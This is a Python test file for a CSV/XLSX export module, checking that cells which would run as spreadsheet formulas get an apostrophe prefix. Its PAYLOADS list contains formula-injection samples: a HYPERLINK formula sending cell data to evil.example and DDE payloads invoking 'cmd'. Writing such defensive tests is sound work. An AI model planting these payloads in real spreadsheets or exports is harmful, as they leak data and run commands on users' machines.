"""Exports neutralise formula injection in CSV and XLSX, and keep numbers and dates as they are."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from laoke.fileio.export import csv_bytes, safe_cell, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
    " \uff0b1",  # a full-width plus after a blank
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_formula_text(payload: str) -> None:
    """Text that a spreadsheet would run as a formula gets an apostrophe in front."""
    assert safe_cell(payload) == "'" + payload


def test_safe_cell_keeps_plain_values() -> None:
    """Plain text, numbers (also negative), dates and None pass through unchanged."""
    values = ["Acme GmbH", "A-1", 3, -4.5, Decimal("-1.20"), dt.date(2026, 1, 2), None, True]
    assert [safe_cell(v) for v in values] == values


@given(st.text())
def test_safe_cell_never_returns_formula_text(text: str) -> None:
    """No text ever comes out starting with a formula character."""
    assert not safe_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_has_no_formula_and_shows_payload_as_text() -> None:
    """The workbook holds no <f> element; the payload is readable text, numbers stay numbers."""
    rows = [[p, 1000, dt.date(2026, 3, 4)] for p in PAYLOADS]
    data = xlsx_bytes(["=name", "amount", "date"], rows, sheet="Customers")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    table = book.get_sheet_by_name("Customers").to_python()
    assert table[0][0] == "'=name"
    assert [r[0] for r in table[1:]] == ["'" + p for p in PAYLOADS]
    assert table[1][1] == 1000


def test_csv_neutralises_every_cell() -> None:
    """Every CSV cell that would start a formula is prefixed; the file opens as UTF-8 with a BOM."""
    data = csv_bytes(["名称", "amount"], [[p, -3] for p in PAYLOADS])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["名称", "amount"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert all(r[1] == "-3" for r in rows[1:])
